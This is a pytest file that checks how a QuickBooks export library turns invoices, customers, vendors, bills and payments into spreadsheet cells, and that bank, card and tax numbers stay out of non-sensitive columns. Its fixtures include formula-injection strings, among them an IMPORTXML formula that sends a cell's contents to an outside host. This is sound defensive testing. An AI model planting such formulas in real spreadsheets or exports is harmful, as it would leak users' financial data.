from __future__ import annotations

import json
import pathlib
from decimal import Decimal
from zoneinfo import ZoneInfo

import pytest

from counterfoil import catalog
from counterfoil.core.cells import Cell
from counterfoil.core.records import plain_rows

DATA = pathlib.Path(__file__).parents[1] / "data" / "quickbooks"
NEW_YORK = ZoneInfo("America/New_York")


def test_an_invoice_becomes_typed_cells() -> None:
    rows = rows_of("invoices", "Invoice", None)
    assert rows == [
        [
            "5000000000000503624",
            "00123",
            46082,
            46112,
            '=IMPORTXML("https://example.com?"&A2,"//a")',
            "Net 30",
            "North",
            "EUR",
            98.76,
            1333.26,
            0.1,
            "Thank you <b>very</b> much 🌿",
            'line one\nline two, "quoted"',
            "@zoe@example.com",
            "EmailSent",
            "Zoë Ångström, 1 Main St. Suite 2, Springfield, CA 01234, USA",
        ],
        ["7", "", 46207, "", "", "", "", "", "", -12, 12345678901234568.0, "", "", "", "", ""],
    ]


def test_every_other_column_of_an_invoice_can_be_chosen() -> None:
    (row, bare) = (
        dict(zip(keys("invoices"), cells, strict=True))
        for cells in rows_of("invoices", "Invoice", keys("invoices"))
    )
    chosen: dict[str, Cell] = {
        "customer_id": "24",
        "project": "",
        "terms_id": "3",
        "class": "Landscaping:Design",
        "class_id": "9",
        "location_id": "2",
        "currency_name": "Euro",
        "exchange_rate": 1.0946,
        "tax_code": "",
        "tax_code_id": "2",
        "deposit": 0,
        "home_total": 1459.39,
        "home_balance": 0.11,
        "print_status": "NeedToPrint",
        "delivery_type": "Email",
        "delivery_time": 46082.5,
        "billing_line_2": "1 Main St.\nSuite 2",
        "billing_postal_code": "01234",
        "billing_latitude": 37.4238562,
        "billing_longitude": -122.1141681,
        "shipping_address": "5 Dock Rd.",
        "shipping_latitude": "INVALID",
        "ship_date": "2026-02-30",
        "tracking_number": "1-2",
        "tax_calculation": "TaxExcluded",
        "tax_after_discount": False,
        "linked_types": "Estimate, Payment",
        "linked_ids": "100, 5000000000000000001",
        "custom_1": "",
        "custom_2": "007",
        "custom_3": "",
        "custom_names": "Sales Rep, Crew #",
        "card_payment": True,
        "ipn_payment": False,
        "created": (46082 * 86400 + 9 * 3600) / 86400,
        "updated": (46112 * 86400 + 23 * 3600 + 30 * 60 + 15) / 86400,
        "updated_by_id": "9341457000000001",
        "version": "3",
    }
    assert {key: row[key] for key in chosen} == chosen
    assert bare["created"] == 46207.625
    assert {key for key, cell in bare.items() if cell != ""} == {
        *("id", "date", "customer_id", "total", "balance", "created", "updated", "version"),
        "signed_total",
    }


def test_a_customer_becomes_typed_cells() -> None:
    assert rows_of("customers", "Customer", None) == [
        [
            "1",
            "'Amy's Bird Sanctuary'",
            'Amy\'s "Birds", Inc.',
            "Amy",
            "+1 (555) 0100",
            "birds@example.com",
            "(650) 555-3311",
            "+16505553312",
            "4581 Finch St., Bayshore, CA 94326-1234",
            "Net 30",
            "USD",
            85,
            True,
            "-1+2",
        ],
        ["2", "Amy (deleted)", "", "", "", "", "", "", "", "", "", 0, False, ""],
    ]


def test_a_vendor_becomes_typed_cells() -> None:
    assert rows_of("vendors", "Vendor", None) == [
        [
            "5000000000000503625",
            "+Green Thumb, Inc.",
            '=HYPERLINK("https://example.com","Nursery")',
            "Zoë",
            "O'Neil",
            "0007-1",
            "green@example.com",
            "(719) 555-0100",
            "+17195550101",
            "10 Main St., Larkfield, 01234",
            "EUR",
            750.1,
            True,
            True,
        ],
        ["2", "Old Quarry (deleted)", "", "", "", "", "", "", "", "", "", 0, False, False],
    ]


def test_a_bill_becomes_typed_cells() -> None:
    assert rows_of("bills", "Bill", None) == [
        [
            "9007199254740993",
            "1-2",
            46082,
            46112,
            '@Norton "Lumber"',
            "North",
            "EUR",
            123.22,
            0.1,
            "Accounts Payable (A/P)",
            "- for the job",
        ],
        ["5", "", 46207, "", "", "", "", 0, 0, "", "Voided"],
    ]


def test_a_payment_becomes_typed_cells() -> None:
    assert rows_of("payments", "Payment", None) == [
        ["128", 46082, "=1+1", "00981", "USD", 1055.55, 55.5, "two at once"],
        ["180", 46147, "Amy", "", "USD", 100, 100, ""],
    ]


def test_a_purchase_becomes_typed_cells_with_its_sign() -> None:
    assert rows_of("purchases", "Purchase", None) == [
        [
            *("139", "CreditCard", "", 46082, "-Ellis 'Equipment'", "Mastercard", "", "USD"),
            *(900.05, True, -900.05, "sent back"),
        ],
        [
            *("140", "Check", "0071", 46112, "Zoë", "Checking", "North", "EUR"),
            *(228.75, False, 228.75, ""),
        ],
        ["141", "Cash", "", 46207, "", "Checking", "", "", 19.99, "", 19.99, ""],
    ]


OTHERS: dict[str, dict[str, Cell]] = {
    "vendors": {
        "contact_types": "TelephoneNumber, EmailAddress, TelephoneNumber",
        "contact_phones": "+1 (555) 0102, 0103",
        "contact_emails": "ap@example.com",
        "contact_websites": "",
        "billing_postal_code": "01234",
        "terms": "",
        "terms_id": "3",
        "payables": "Accounts Payable (A/P)",
        "payables_id": "33",
        "bill_rate": 25,
        "cost_rate": 12.5,
        "t4a": False,
        "website": "https://green.example.com",
        "created": (46082 * 86400 + 9 * 3600) / 86400,
    },
    "bills": {
        "vendor_id": "46",
        "vendor_address": "1 Main St., Suite 2, Springfield",
        "vendor_line_2": "Suite 2",
        "terms_id": "3",
        "location_id": "2",
        "exchange_rate": 1.0946,
        "tax": 19.67,
        "tax_code": "",
        "tax_code_id": "5",
        "home_balance": 0.11,
        "signed_total": 123.22,
        "linked_types": "BillPaymentCheck, BillPaymentCreditCard",
        "linked_ids": "118, 119",
        "tax_calculation": "TaxExcluded",
        "purchase_location": "WithinFrance",
        "tpar": True,
        "recurring_id": "8",
        "updated_by_id": "9341457000000001",
    },
    "payments": {
        "customer_id": "24",
        "project_id": "39298034",
        "payment_method": "Check",
        "deposit_account": "",
        "deposit_account_id": "4",
        "exchange_rate": 1,
        "signed_total": 1055.55,
        "applied_types": "Invoice, Invoice, CreditMemo",
        "applied_ids": "96, 5000000000000000001, 73",
        "linked_types": "Deposit",
        "linked_ids": "121",
        "processed": True,
        "tax_exemption_id": "1",
        "sale_location": "WithinFrance",
        "source": "IntuitPayment",
    },
    "purchases": {
        "payee_id": "58",
        "payee_type": "Vendor",
        "account_id": "41",
        "remit_address": "",
        "linked_ids": "",
        "tax": "",
        "tpar": "",
        "source": "",
    },
}


@pytest.mark.parametrize("key", OTHERS)
def test_every_other_column_can_be_chosen(key: str) -> None:
    (row, *_) = rows_of(key, catalog.entity(key).entity, keys(key))
    shown = dict(zip(keys(key), row, strict=True))
    assert {name: shown[name] for name in OTHERS[key]} == OTHERS[key]


def test_a_check_that_waits_to_be_printed_shows_all_that_was_sent() -> None:
    row = dict(
        zip(keys("purchases"), rows_of("purchases", "Purchase", keys("purchases"))[1], strict=True)
    )
    assert (row["payee_type"], row["payment_method_id"]) == ("Employee", "2")
    assert row["remit_address"] == "5 Dock Rd., Larkfield, CO 01234"
    assert (row["tax"], row["tax_code"], row["tax_code_id"]) == (36.5, "20%", "5")
    assert (row["print_status"], row["tax_calculation"]) == ("NeedToPrint", "TaxInclusive")
    assert (row["linked_types"], row["linked_ids"]) == ("ReimburseCharge", "9")
    assert (row["source"], row["tpar"], row["recurring"]) == ("QBMobile", False, "Monthly")


@pytest.mark.parametrize(
    ("key", "secrets"),
    [
        ("vendors", ["XXXXX6789", "987654321", "062-001", "Hidden", "hidden"]),
        ("payments", ["1111", "Hidden", "hidden", "2031"]),
        ("purchases", ["1111", "123456789", "Hidden"]),
    ],
)
def test_bank_accounts_cards_and_tax_numbers_reach_no_cell_of_another_column(
    key: str, secrets: list[str]
) -> None:
    told = json.dumps(rows_of(key, catalog.entity(key).entity, open_keys(key)))
    assert [secret for secret in secrets if secret in told] == []
    source = (DATA / f"{key}.json").read_text(encoding="utf-8")
    assert all(secret in source for secret in secrets)


def test_a_persons_tax_number_reaches_no_cell_of_another_column() -> None:
    rows = rows_of("customers", "Customer", open_keys("customers"))
    assert "XXXXXXX89" in (DATA / "customers.json").read_text(encoding="utf-8")
    assert "XXXXXXX89" not in json.dumps(rows)
    assert "Amy" in json.dumps(rows)


def rows_of(key: str, name: str, columns: list[str] | None) -> list[list[Cell]]:
    page = json.loads((DATA / f"{key}.json").read_text(encoding="utf-8"), parse_float=Decimal)
    chosen = catalog.chosen_columns(catalog.entity(key), columns)
    return plain_rows(page["QueryResponse"][name], chosen, NEW_YORK)


def keys(key: str) -> list[str]:
    return [column.key for column in catalog.entity(key).columns]


def open_keys(key: str) -> list[str]:
    """Of the columns that are no secret."""
    return [column.key for column in catalog.entity(key).columns if not column.sensitive]
